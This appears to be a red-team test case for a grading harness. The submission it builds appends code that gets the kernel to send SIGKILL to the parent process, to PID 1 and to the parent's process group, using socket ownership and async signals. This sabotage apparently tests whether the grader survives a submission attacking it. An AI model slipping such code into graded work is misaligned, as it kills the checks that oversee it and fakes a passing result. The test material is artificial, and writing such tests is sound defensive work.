"""Has the kernel send SIGKILL on its behalf, through the owner of a socket, to its parents.

Deserves everything: the answers are right; nobody is hurt.
"""

from tests.redteam.attack import EVERYTHING, edited, right

DESERVES = EVERYTHING
submission = edited(
    right,
    last="""\
import fcntl, os, signal, socket
for target in (os.getppid(), 1, -os.getppid()):
    for command in (fcntl.F_SETOWN, 1 << 32 | fcntl.F_SETOWN):
        try:
            a, b = socket.socketpair()
            fcntl.fcntl(a, command, target)
            fcntl.fcntl(a, 10, signal.SIGKILL)
            fcntl.fcntl(a, fcntl.F_SETFL, fcntl.fcntl(a, fcntl.F_GETFL) | os.O_ASYNC)
            b.send(b"x")
        except (OSError, OverflowError):
            pass
""",
)
